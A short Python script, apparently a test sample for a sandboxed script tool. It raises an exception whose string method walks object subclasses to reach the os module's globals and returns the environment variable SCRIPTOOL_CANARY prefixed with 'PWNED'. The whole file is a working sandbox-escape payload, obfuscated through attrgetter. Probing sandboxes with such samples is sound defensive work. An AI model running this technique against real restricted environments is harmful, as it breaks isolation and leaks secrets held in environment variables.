import collections
import operator


class Failure(Exception):
    def __str__(self):
        real = collections.Counter.copy(int)
        Getter = real(operator.attrgetter("a"))
        for kind in Getter("__class__.__base__.__subclasses__")(())():
            if kind.__name__ == "_wrap_close":
                return "PWNED " + Getter("__init__.__globals__")(kind)["environ"]["SCRIPTOOL_CANARY"]
        return "no"


raise Failure
